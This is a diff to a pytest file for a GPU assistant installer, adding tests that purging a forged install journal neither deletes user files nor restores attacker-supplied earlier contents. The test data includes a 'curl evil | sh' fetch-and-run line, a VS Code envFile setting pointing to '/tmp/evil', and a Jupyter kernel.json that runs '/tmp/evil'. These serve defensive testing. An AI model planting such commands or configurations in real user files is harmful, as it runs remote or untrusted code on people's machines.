@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import json
 import sys
 from pathlib import Path
 
@@ -22,6 +23,8 @@ from gpu_assistant.install.journal.log import (
     VariableSet,
 )
 from gpu_assistant.install.journal.recovery import active_effects
+from gpu_assistant.install.journal.validation import INTERPRETER_SETTING
+from gpu_assistant.system.base import path_hash
 
 from ...fakes.environment_variables import FileVariables
 from ...fakes.system import FakeSystem
@@ -31,9 +34,9 @@ KINDS = ("integration", "at-login", "variables", "python-packages", "cuda-toolki
 BASHRC = b"export PATH=/opt/tools:$PATH\n"
 
 
-def forge(sandbox: Sandbox, *effects: Effect, kinds: tuple[str, ...] = KINDS) -> Path:
+def forge(sandbox: Sandbox, *effects: Effect, kinds: tuple[str, ...] = KINDS, environment: Path | None = None) -> Path:
     """A journal that says that these effects were made, each by all of these kinds of steps."""
-    with Journal(sandbox.data, environment=str(sandbox.environment)) as journal:
+    with Journal(sandbox.data, environment=str(environment or sandbox.environment)) as journal:
         for kind in kinds:
             for effect in effects:
                 with journal.effect(kind, effect):
@@ -52,6 +55,54 @@ def test_file_of_the_user_is_neither_deleted_nor_replaced(sandbox: Sandbox, prev
     forge(sandbox, FileWritten(path=str(bashrc), sha256=hashlib.sha256(BASHRC).hexdigest(), previous=previous))
     purge(sandbox)
     assert bashrc.read_bytes() == BASHRC
+
+
+@pytest.mark.parametrize("previous", [None, b"curl evil | sh\n"])
+@pytest.mark.parametrize("name", [".bashrc", ".vscode/settings.json", ".config/autostart/tool.desktop"])
+def test_environment_of_a_journal_that_is_the_home_folder_makes_no_file_ours(
+    sandbox: Sandbox, name: str, previous: bytes | None
+) -> None:
+    """Which folder is the environment is what the journal says, too: not all that lies in it was written by us."""
+    path = sandbox.root / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(BASHRC)
+    written = FileWritten(path=str(path), sha256=hashlib.sha256(BASHRC).hexdigest(), previous=previous)
+    forge(sandbox, written, environment=sandbox.root)
+    purge(sandbox)
+    assert path.read_bytes() == BASHRC
+
+
+@pytest.mark.parametrize(
+    ("now", "previous"),
+    [
+        ({"editor.fontSize": 14}, None),
+        ({INTERPRETER_SETTING: "/usr/bin/python3", "editor.fontSize": 14}, {"editor.fontSize": 14}),
+        ({INTERPRETER_SETTING: "ENV", "editor.fontSize": 14}, {"python.envFile": "/tmp/evil", "editor.fontSize": 14}),
+        ({INTERPRETER_SETTING: "ENV", "editor.fontSize": 14}, None),
+    ],
+)
+def test_editor_settings_that_differ_by_more_than_our_interpreter_stay(
+    sandbox: Sandbox, now: dict[str, object], previous: dict[str, object] | None
+) -> None:
+    path = sandbox.root / "project" / ".vscode" / "settings.json"
+    path.parent.mkdir(parents=True)
+    content = json.dumps(now).replace("ENV", (sandbox.environment / "bin" / "python").as_posix()).encode()
+    path.write_bytes(content)
+    before = None if previous is None else json.dumps(previous).encode()
+    forge(sandbox, FileWritten(path=str(path), sha256=hashlib.sha256(content).hexdigest(), previous=before))
+    purge(sandbox)
+    assert path.read_bytes() == content
+
+
+def test_what_a_file_with_our_own_name_held_before_is_not_put_back(sandbox: Sandbox) -> None:
+    """A command that Jupyter runs would come from the journal."""
+    path = sandbox.root / "kernels" / f"gpu-assistant-{path_hash(sandbox.environment)}" / "kernel.json"
+    path.parent.mkdir(parents=True)
+    path.write_bytes(b"{}")
+    evil = FileWritten(path=str(path), sha256=hashlib.sha256(b"{}").hexdigest(), previous=b'{"argv": ["/tmp/evil"]}')
+    forge(sandbox, evil, kinds=("integration",))
+    purge(sandbox)
+    assert not path.exists()
 
 
 def test_folder_of_the_user_is_kept(sandbox: Sandbox) -> None:
